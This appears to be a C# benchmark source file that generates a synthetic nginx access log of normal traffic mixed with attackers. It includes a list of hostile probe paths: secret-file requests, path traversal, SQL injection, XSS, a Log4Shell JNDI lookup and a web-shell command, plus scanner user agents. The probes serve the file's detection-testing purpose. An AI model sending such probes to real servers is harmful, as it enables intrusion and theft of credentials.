using System.Globalization;

namespace Hoplite.Bench.Measuring;

/// <summary>Makes a day of an nginx access log: visitors, a search engine, clients that synchronise, a broken one, and attackers of several kinds.</summary>
static class ProbingLog
{
    const string Browser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    static readonly DateTime Midnight = new(2026, 3, 2, 0, 0, 0, DateTimeKind.Utc);
    static readonly string[] Probes =
    [
        "/.env", "/.git/config", "/wp-config.php.bak", "/backup.sql", "/static/../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/item?id=1%27%20UNION%20SELECT%201,2,3--",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/?x=${jndi:ldap://198.51.100.9/a}", "/id_rsa", "/.aws/credentials", "/shell.php?cmd=id",
    ];

    static readonly string[] Tools =
    [
        "sqlmap/1.8.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "gobuster/3.6", "WPScan v3.8.25 (https://wpscan.com/)",
    ];

    /// <summary>Writes it.</summary>
    public static AttackLog Write()
    {
        var random = new Random(20260303);
        var lines = new List<(DateTime, string)>();
        var attackers = new HashSet<string>(StringComparer.Ordinal);
        for (var visit = 0; visit < 2_500; visit++) Visit($"198.18.{random.Next(12)}.{random.Next(1, 255)}");
        for (var page = 0; page < 17_000; page++) Add(page * 5, "192.0.2.66", $"/articles/{page % 4_000}", 200, "Mozilla/5.0 (compatible; ExampleSearch/1.0; +https://search.example/bot)");

        // Clients that fetch a folder of documents at once, and a reader that asks for ever for a feed that is gone.
        for (var sync = 0; sync < 8; sync++)
            for (var file = 0; file < 400; file++) Add(30_000 + sync * 900 + file / 8.0, $"198.18.20.{1 + sync}", $"/files/scan-{file}.pdf", 200, "FolderSync/3.2");
        for (var ask = 0; ask < 14_400; ask++) Add(ask * 6, "198.18.21.1", "/feed.xml", 404, "OldReader/2.0");

        for (var i = 1; i <= 40; i++) Attack($"198.51.100.{i}", random.Next(200, 700), 0.05, 0.2, n => ($"/{(n % 3 == 0 ? "admin" : "old")}/{random.Next(100_000)}.php", 404, Browser));
        for (var i = 101; i <= 110; i++) Attack($"198.51.100.{i}", 200, 4, 12, _ => ($"/{random.Next(100_000)}/login.php", 404, Browser));
        for (var i = 1; i <= 40; i++) Attack($"203.0.113.{i}", random.Next(6, 13), 1, 5, n => (Probes[(n * 5 + i) % Probes.Length], n % 2 == 0 ? 404 : 400, Browser));
        for (var i = 101; i <= 130; i++) Attack($"203.0.113.{i}", 3, 2, 6, _ => ("/", 200, Tools[i % Tools.Length]));
        return AttackLog.Write("probing.log", lines, attackers);

        void Visit(string address)
        {
            var second = 21_600 + random.NextDouble() * 60_000;
            for (var page = random.Next(2, 9); page > 0; page--)
            {
                Add(second, address, $"/articles/{random.Next(400)}", 200, Browser);
                for (var part = 0; part < 4; part++) Add(second + 0.1 * part, address, $"/static/part{part}.{(part < 2 ? "css" : "png")}", 200, Browser);
                second += 8 + random.NextDouble() * 60;
            }

            if (random.Next(5) == 0) Add(second, address, random.Next(2) == 0 ? "/favicon.ico" : "/articles/withdrawn", 404, Browser);
        }

        void Attack(string address, int requests, double least, double most, Func<int, (string Path, int Status, string Agent)> request)
        {
            attackers.Add(address);
            var second = random.NextDouble() * 80_000;
            for (var n = 0; n < requests; n++)
            {
                var (path, status, agent) = request(n);
                Add(second, address, path, status, agent);
                second += least + random.NextDouble() * (most - least);
            }
        }

        void Add(double second, string address, string path, int status, string agent)
        {
            var time = Midnight.AddSeconds(second);
            lines.Add((time, string.Create(CultureInfo.InvariantCulture, $"{address} - - [{time:dd/MMM/yyyy:HH:mm:ss} +0000] \"GET {path} HTTP/1.1\" {status} {random.Next(150, 40_000)} \"-\" \"{agent}\"")));
        }
    }
}
